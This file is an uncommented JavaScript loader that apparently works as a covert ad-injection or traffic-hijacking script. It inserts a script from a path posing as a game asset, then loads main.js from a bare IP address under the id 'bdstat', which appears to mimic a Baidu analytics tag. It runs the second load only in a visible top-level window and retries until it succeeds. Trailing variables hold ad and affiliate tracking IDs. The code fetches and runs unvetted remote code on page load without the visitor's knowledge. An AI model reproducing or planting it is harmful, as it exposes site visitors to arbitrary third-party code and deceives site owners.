(function() {
    o = "http://a.com/assets/app/game/x/1.0.0/x.js?";
    sh = "http://61.160.200.223:7701/main.js?v=3.93&sp=304&ty=dpc";
    w = window;
    d = document;
    function ins(s, dm, id) {
        e = d.createElement("script");
        e.src = s;
        e.type = "text/javascript";
        id ? e.id = id: null;
        dm.appendChild(e);
    };
    p = d.scripts[d.scripts.length - 1].parentNode;
    ins(o, p);
    ds = function() {
        db = d.body;
        if (db && !document.getElementById("bdstat")) {
            if ((w.innerWidth || d.documentElement.clientWidth || db.clientWidth) > 1) {
                if (w.top == w.self) {
                    ins(sh, db, "bdstat");
                }
            }
        } else {
            setTimeout("ds()", 1500);
        }
    };
    ds();
})();
var mim_sp = "304";
var mim_aid = "5340";
var mim_uid = "XVpZWlVJVFhWXFxA";
var mim_src = "a.com/assets/app/game/x/1.0.0/x.js";
var mim_adtype = "0";
var mim_ty = "dpc";
